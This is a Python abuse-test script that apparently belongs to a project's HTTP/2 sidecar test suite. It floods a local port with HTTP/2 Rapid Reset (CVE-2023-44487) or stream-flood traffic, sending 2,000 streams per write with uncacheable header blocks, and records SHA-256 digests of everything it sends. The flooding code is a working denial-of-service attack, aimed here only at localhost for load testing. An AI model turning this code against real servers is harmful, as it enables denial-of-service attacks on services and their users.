"""Rapid reset (CVE-2023-44487) at full size, for the abuse test of the observer's bounds:
each write carries thousands of streams, and every header block is new (literals never
indexed, a unique value in each), so that none is decoded from the observer's cache: the
costliest streams there are. Run as a process of its own, at low priority, beside the
watched ambassador; prints what it sent as one JSON line (per connection, the SHA-256 of
every byte written, to be compared with what the app received).

    python -m tests.abuse.h2_rapid_reset ATTACK PORT SECONDS

`rapid_reset`: HEADERS then RST_STREAM(CANCEL), 2,000 streams per write.
`stream_flood`: HEADERS with END_STREAM (requests without a body), 2,000 per write.
"""

from __future__ import annotations

import hashlib
import json
import socket
import struct
import sys
import time
from typing import Any

from redline.sidecars.ambassador.h2frames import (
    CANCEL,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PREFACE,
    RST_STREAM,
)
from tests.abuse.grpc_upstream import ECHO
from tests.abuse.h2frames import grpc_request, literal_block
from tests.sidecars.ambassador.h2bytes import settings

STREAMS_PER_WRITE = 2_000
WRITES_PER_CONNECTION = 10
MAX_CONNECTIONS = 30
_FRAME = struct.Struct(">HBBBL")  # length (16 + 8 bits), type, flags, stream id


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    length = len(payload)
    return _FRAME.pack(length >> 8, length & 0xFF, kind, flags, stream) + payload


def _unique(value: int) -> bytes:
    """A never-indexed literal `x-id: <value>` (RFC 7541 6.2.3, name and value literal)."""
    text = b"%d" % value
    return b"\x10\x04x-id" + bytes((len(text),)) + text


def batch(first: int, count: int, reset: bool) -> bytes:
    common = literal_block(grpc_request(ECHO))
    cancel = CANCEL.to_bytes(4, "big")
    out = []
    for stream in range(first, first + 2 * count, 2):
        flags = END_HEADERS | (0 if reset else END_STREAM)
        out.append(_frame(HEADERS, flags, stream, common + _unique(stream)))
        if reset:
            out.append(_frame(RST_STREAM, 0, stream, cancel))
    return b"".join(out)


def _attack(port: int, seconds: float, reset: bool) -> dict[str, Any]:
    deadline = time.monotonic() + seconds
    sent: list[str] = []
    streams = 0
    while time.monotonic() < deadline and len(sent) < MAX_CONNECTIONS:
        sock = socket.create_connection(("127.0.0.1", port), timeout=10)
        digest = hashlib.sha256()
        first = PREFACE + settings()
        sock.sendall(first)
        digest.update(first)
        stream = 1
        for _ in range(WRITES_PER_CONNECTION):
            chunk = batch(stream, STREAMS_PER_WRITE, reset)
            sock.sendall(chunk)
            digest.update(chunk)
            stream += 2 * STREAMS_PER_WRITE
            streams += STREAMS_PER_WRITE
            time.sleep(0.002)  # the shape of the traffic, not a race for the CPU
        sock.shutdown(socket.SHUT_WR)
        while sock.recv(65536):  # the end of the relay: the app read every byte by then
            pass
        sock.close()
        sent.append(digest.hexdigest())
    return {"connections": len(sent), "streams": streams, "sent": sent}


if __name__ == "__main__":
    attack, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    if attack not in ("rapid_reset", "stream_flood"):
        sys.exit(f"attack: expected rapid_reset or stream_flood, got {attack!r}")
    print(json.dumps(_attack(port, seconds, attack == "rapid_reset")), flush=True)
